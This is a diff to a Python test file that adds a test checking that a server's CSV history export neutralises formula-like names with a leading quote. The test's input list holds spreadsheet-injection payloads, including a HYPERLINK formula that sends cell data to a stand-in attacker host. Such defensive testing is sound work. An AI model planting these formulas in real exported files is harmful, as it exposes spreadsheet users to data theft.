@@ -3,6 +3,8 @@ limits (R14), and the optimistic concurrency integrations use."""
 
 from __future__ import annotations
 
+import csv
+import io
 import logging
 from datetime import UTC, datetime, timedelta
 
@@ -14,8 +16,9 @@ from server.accounts import throttle
 from server.api import types
 from server.api.limits import MAX_DEPTH, MaxDepth
 from server.app import create_app
+from server.licensing import services
 from server.settings import Settings
-from tests.factories import PASSWORD, error_codes, make_org
+from tests.factories import MAXIMUM, PASSWORD, error_codes, make_org
 
 SEATS = "{ seats { licenseCount } }"
 
@@ -341,3 +344,37 @@ def test_issue_10_item_3_depth_through_doubling_fragments_is_still_counted(depth
     cycle = "query { node { ...A } } fragment A on Node { child { ...B } } "
     cycle += "fragment B on Node { id ...A }"
     assert codes(cycle) == []
+
+
+# --- issue 10 item 6: no live formulas in the CSV export ----------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("http://attacker.example/?"&A1,"click")',
+    "+SUM(1+1)",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+async def test_issue_10_item_6_names_that_look_like_formulas_are_text_in_the_csv(client, admin):
+    """Issue 10 item 6: a person or an actor whose name starts like a formula (= + - @, TAB,
+    CR) is written with a leading single quote, as OWASP advises: readable, never run."""
+    await admin.set_count(1)  # every person added now needs a license: a row naming them
+    for name in FORMULAS[:4]:
+        await admin.add(name)
+    for count, name in enumerate(FORMULAS, start=20):  # actor names are copied as they were
+        actor = services.Actor(admin.id, admin.admin.id, name, admin.admin.role)
+        await services.set_license_count(actor, count, maximum=MAXIMUM)
+    response = await client.http.get("/history.csv")
+    assert response.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(response.text, newline="")))
+    actors = {row["actor"] for row in rows}
+    resources = {row["resource"] for row in rows}
+    assert {"'" + name for name in FORMULAS} <= actors
+    assert {"'" + name for name in FORMULAS[:4]} <= resources
+    for row in rows:
+        for cell in (row["actor"], row["resource"]):
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
+    assert admin.admin.name in actors  # plain names stay as they are
